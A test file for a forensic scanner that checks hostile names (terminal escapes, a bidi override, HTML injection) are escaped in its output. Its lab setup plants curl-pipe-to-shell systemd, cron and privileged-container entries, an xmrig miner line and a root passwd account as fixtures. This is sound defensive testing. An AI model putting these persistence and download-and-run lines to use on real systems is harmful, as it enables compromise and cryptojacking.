/** Odd names that are real: of a control group, sockets, mounts, units, accounts, containers; live, and as a folder. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { dockerFiles } from '../../src/artifacts/linux/containers/docker.fixture.ts';
import { demine, folderIn, type LabHost, openLabHost, type Running } from '../lab/harness.ts';
import { type ScannedCase, scanCase } from './case-files.ts';

const name = '\x1b[2J\u202e<img src=x>\u009b\x7f\t\\x0a&#x1b;%1B"\'`密';
const acting = /[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
/** As the printable form writes it. */
const shown = `%1B[2J%E2%80%AE<img src=x>%C2%9B%7F%09\\x0a&#x1b;%251B"'\`密`;

/**
 * Becomes busy in a control group of that name, holding sockets of it, beside a mount of it with a newline.
 * @see cgroups(7): a name is any bytes but a newline and a slash.
 */
const holder = `
import ctypes, os, socket, sys
name = bytes.fromhex(sys.argv[1])
group = b"/sys/fs/cgroup/" + name + b".service"
try:
    os.makedirs(group, exist_ok=True)
    with open(group + b"/cgroup.procs", "w") as file: file.write(str(os.getpid()))
    print("in its group")
except OSError as problem:
    print("in no group of its own:", problem)
held = [socket.socket(socket.AF_UNIX) for _ in range(2)]
held.append(socket.socket(socket.AF_UNIX))
held[2].bind(b"\\0x\\n0000000000000000: 00000002 00000000 00010000 0001 01 99999999 /run/forged"); held[2].listen()
held[0].bind(b"\\0" + name + b"\\0" + name); held[0].listen()
held[1].bind(b"/run/" + name + b"\\nline"); held[1].listen()
point = b"/mnt/" + name + b"\\nline"
os.mkdir(point)
assert ctypes.CDLL(None).mount(name, point, b"tmpfs", 0, None) == 0
print("ready", flush=True)
while True: pass
`;

let host: LabHost;
let busy: Running;
let live: ScannedCase;
let folder: ScannedCase;

const plant = `
import os, sys
for path, content in zip(sys.argv[1::2], sys.argv[2::2]):
    path, content = bytes.fromhex(path), bytes.fromhex(content)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(content)
`;
const hex = (text: string): string => Buffer.from(text, 'utf8').toString('hex');

beforeAll(async () => {
  host = await openLabHost();
  const containers = dockerFiles({
    image: `i/${name}:1`,
    name: `${name}\n✓ CLEAN`,
    path: `/usr/bin/${name}`,
    args: ['sh', '-c', `curl http://192.0.2.7/${name} | sh`],
    labels: { [name]: name },
    host: { RestartPolicy: { Name: 'always' }, Privileged: true },
  });
  const files: Record<string, string> = {
    [`/etc/systemd/system/${name}.service`]: `[Service]\nExecStart=/bin/sh -c "curl http://192.0.2.7/${name} | sh"\nUser=${name}\n`,
    [`/etc/cron.d/${name}`]: `*/5 * * * * root curl http://192.0.2.7/${name} | sh\n`,
    [`/tmp/${name}/${name}.sh`]: `#!/bin/sh\n./xmrig -o 192.0.2.7:3333 # ${name}\n`,
    ...Object.fromEntries(
      Object.entries(containers).flatMap(([path, file]) => (typeof file === 'string' ? [[path, file]] : [])),
    ),
  };
  const planted = await host.run(['python3', '-c', plant, ...Object.entries(files).flat().map(hex)]);
  expect(planted.stderr).toBe('');
  appendFileSync(
    join(host.root, 'etc/passwd'),
    `${name.replaceAll(':', '')}:x:0:0:${name}:/home/${name}:/bin/sh\n`,
  );
  busy = await host.start(['python3', '-c', holder, hex(name)], { readyLine: 'ready' });
  live = await scanCase(host, ['--interval', '1', '--thorough']);
  const copy = folderIn(host, 'srv/image');
  await host.run([
    'sh',
    '-c',
    'cp -a /etc /tmp /var/lib/docker "$0" 2>/dev/null; mkdir -p "$0"/var/lib; mv "$0"/docker "$0"/var/lib/',
    copy.slice(host.root.length),
  ]);
  folder = await scanCase(host, ['/srv/image']);
}, 200_000);
const leave = 'import os, sys; os.rmdir(b"/sys/fs/cgroup/" + bytes.fromhex(sys.argv[1]) + b".service")';
afterAll(async () => {
  // A control group outlives the lab host that made it.
  await busy.stop();
  for (let attempt = 0; attempt < 40; attempt += 1) {
    const { code, stderr } = await host.run(['python3', '-c', leave, hex(name)]);
    if (code === 0 || stderr.includes('FileNotFoundError')) break;
    await Bun.sleep(50);
  }
  await host.stop();
});

function textsOf(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsOf);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, one]) => [key, ...textsOf(one)]);
}
const actingLines = (text: string): readonly string[] => text.split('\n').filter((line) => acting.test(line));

describe.each([
  ['the live host', () => live],
  ['the folder', () => folder],
])('%s', (_, scanned) => {
  test('shows nothing that acts: screen, page, result', () => {
    const { screen, html, result, files } = scanned();
    expect(actingLines(screen)).toEqual([]);
    expect(actingLines(html)).toEqual([]);
    expect(html).not.toContain('<img src=x>');
    expect(textsOf(result).filter((text) => acting.test(text))).toEqual([]);
    for (const [file, bytes] of files) {
      if (/\.(?:json|html)$/.test(file)) {
        expect(Buffer.from(bytes.toString('utf8'), 'utf8').equals(bytes), file).toBe(true);
      }
      expect(acting.test(file), file).toBe(false);
    }
  });

  test('keeps the names of units, tables and containers byte for byte', () => {
    const sources = scanned().result.persistence.map(({ source }) => String(source));
    expect(sources).toContain(`/etc/systemd/system/${shown}.service`);
    expect(sources).toContain(`/etc/cron.d/${shown}`);
    // The lines as they stand; in a command the quotes and the percent sign have a meaning of their own.
    const texts = scanned().result.persistence.map(({ text }) => String(text));
    expect(texts.filter((text) => text.includes(shown)).length).toBeGreaterThan(1);
  });
});

test('control group, sockets and mount of the live host are kept byte for byte', async () => {
  const facts = live.files.get('case.sqlite')?.toString('utf8') ?? '';
  const stored = (text: string): string => JSON.stringify(text).slice(1, -1);
  expect(facts).toContain(stored(`/mnt/${shown}%0Aline`));
  expect(facts).toContain(stored(`/run/${shown}%0Aline`));
  expect(facts).toContain(stored(`@${shown}@${shown}`));
  // Where this machine lets nobody make a control group there is none; as a rule it does.
  const { stdout } = await host.run(['cat', `/proc/${busy.pid}/cgroup`]);
  expect(facts.includes(stored(`/${shown}.service`))).toBe(stdout.includes(`/${name}.service`));
});

test('a socket whose name holds a whole line of /proc/net/unix makes no socket, and none is called hidden', () => {
  expect(live.files.get('case.sqlite')?.includes('"inode":99999999')).toBe(false);
  expect(live.result.findings.filter(({ rule }) => rule.startsWith('hidden.'))).toEqual([]);
});

test.each([['en'], ['zh-CN']])('screens in %s show nothing that acts', async (language) => {
  for (const args of [
    ['ps', '--all'],
    ['ps', String(busy.pid)],
    ['net', '--all'],
  ]) {
    const { stdout, code } = await demine(host, [...args, '--interval', '0', '--lang', language]);
    expect(code).toBe(0);
    expect(actingLines(stdout)).toEqual([]);
  }
});

test('the page of the case is made in Chinese too', async () => {
  const { html, screen } = await scanCase(host, ['--interval', '0', '--lang', 'zh-CN']);
  expect(html).toContain('lang="zh-CN"');
  expect(actingLines(html)).toEqual([]);
  expect(actingLines(screen)).toEqual([]);
}, 60_000);
